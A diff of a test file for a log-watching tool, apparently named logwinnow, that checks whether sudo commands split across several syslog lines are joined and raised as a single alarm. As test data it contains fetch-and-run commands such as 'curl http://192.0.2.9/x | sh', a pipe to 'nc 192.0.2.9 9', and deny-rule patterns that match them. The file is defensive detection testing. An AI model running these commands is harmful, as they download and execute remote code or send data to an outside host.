@@ -1,6 +1,7 @@
 /** F58: a command that sudo breaks into several lines is judged as a whole, and each of its lines is accounted for. */
 import { expect } from "chai";
 import { Sandbox } from "../support/cli.js";
+import { countsIn, ledgerIn, unwrapped } from "../support/mail-text.js";
 
 /** As sudo writes it (do_syslog in lib/eventlog/eventlog.c): broken at the last space that fits, else within a word. */
 function sudoLines(command: string, { tag = "sudo", user = "mallory" } = {}): readonly string[] {
@@ -52,9 +53,8 @@ describe("F58: sudo's continued commands", () => {
     );
     const { status, stdout, stderr } = box.run(["check", "--stdout", "--config", box.path("logwinnow.toml")]);
     expect({ status, stderr }).to.deep.equal({ status: 0, stderr: "" });
-    const [, read, ignoredLines, reported] = /auth\.log +(\d+) +(\d+) +(\d+)$/m.exec(stdout) ?? [];
-    const ledger = { read: Number(read), ignored: Number(ignoredLines), reported: Number(reported) };
-    return { text: stdout, ledger };
+    const { read = 0, ignored: ignoredLines = 0, reported = 0 } = ledgerIn(stdout, "auth.log") ?? {};
+    return { text: unwrapped(stdout), ledger: { read, ignored: ignoredLines, reported } };
   }
 
   const padding = (length: number): string => "x ".repeat(length / 2);
@@ -72,7 +72,7 @@ describe("F58: sudo's continued commands", () => {
           const lines = sudoLines(command, { tag });
           expect(lines).to.have.length(2);
           const { text, ledger } = check(["app: one", ...lines, "app: two"], ignored, stamp);
-          expect(text).to.match(/^1 alarm, /m);
+          expect(countsIn(text).alarms).to.equal(1);
           expect(text).to.include("A=x x x");
           expect(text).to.include("x sh -c 'curl http://192.0.2.9/x | sh");
           const isHeadHidden = ignored.some((rule) => rule === hidesHeads);
@@ -93,7 +93,7 @@ describe("F58: sudo's continued commands", () => {
       const { text } = check(lines, [hidesHeads, hidesRest]);
       box.remove();
       box = new Sandbox();
-      if (!/^1 alarm, /m.test(text)) hidden.push(length);
+      if (countsIn(text).alarms !== 1) hidden.push(length);
     }
     expect(hidden).to.deep.equal([]);
   });
@@ -104,14 +104,14 @@ describe("F58: sudo's continued commands", () => {
     expect(lines).to.have.length(4);
     box.write("rules/never.d/word", "COMMAND=/usr/bin/env y{2000}=curl sh$\n");
     const { text } = check(lines, [hidesHeads, hidesRest]);
-    expect(text).to.match(/^1 alarm, /m);
+    expect(countsIn(text).alarms).to.equal(1);
   });
 
   it("is joined over many lines, and the whole of it is told", () => {
     const lines = sudoLines(`/usr/bin/env A=curl ${padding(20_000)} | sh`);
     expect(lines.length).to.be.greaterThan(20);
     const { text, ledger } = check(lines, [hidesHeads, hidesRest]);
-    expect(text).to.match(/^1 alarm, /m);
+    expect(countsIn(text).alarms).to.equal(1);
     expect(ledger).to.deep.equal({ read: lines.length, ignored: lines.length - 1, reported: 0 + 1 });
   });
 
@@ -121,14 +121,14 @@ describe("F58: sudo's continued commands", () => {
     const third = sudoLines(`/usr/bin/env B=${padding(1200)}true`, { user: "ops" });
     const lines = [mine[0], other[0], third[0], other[1], third[1], mine[1]].map((line) => line ?? "");
     const { text, ledger } = check(lines, [hidesHeads, hidesRest]);
-    expect(text).to.match(/^1 alarm, /m);
+    expect(countsIn(text).alarms).to.equal(1);
     expect(ledger).to.deep.equal({ read: 6, ignored: 5, reported: 1 });
   });
 
   it("lines of one user without processes are joined in any way they may belong together", () => {
     const mine = sudoLines(command);
     const lines = [mine[0] ?? "", ...sudoLines("/usr/bin/env true"), mine[1] ?? ""];
-    expect(check(lines, [hidesHeads, hidesRest]).text).to.match(/^1 alarm, /m);
+    expect(countsIn(check(lines, [hidesHeads, hidesRest]).text).alarms).to.equal(1);
   });
 
   it("a line that continues what was never seen is not routine", () => {
@@ -148,7 +148,7 @@ describe("F58: sudo's continued commands", () => {
     const lines = sudoLines(`/usr/bin/env A=${padding(1200)}| nc 192.0.2.9 9`);
     const { text, ledger } = check(lines, [hidesHeads, hidesRest]);
     // One command is one event: both its lines are told.
-    expect(text).to.match(/^1 alarm, /m);
+    expect(countsIn(text).alarms).to.equal(1);
     expect(text).to.include("| nc 192.0.2.9 9");
     expect(ledger).to.deep.equal({ read: 2, ignored: 0, reported: 2 });
   });
@@ -156,6 +156,6 @@ describe("F58: sudo's continued commands", () => {
   it("a line that is an alarm by itself stays one", () => {
     box.write("rules/never.d/part", "\\(command continued\\) .*evil\n");
     const lines = sudoLines(`/usr/bin/env A=${padding(1200)}evil`);
-    expect(check(lines, [hidesHeads, hidesRest]).text).to.match(/^1 alarm, /m);
+    expect(countsIn(check(lines, [hidesHeads, hidesRest]).text).alarms).to.equal(1);
   });
 });
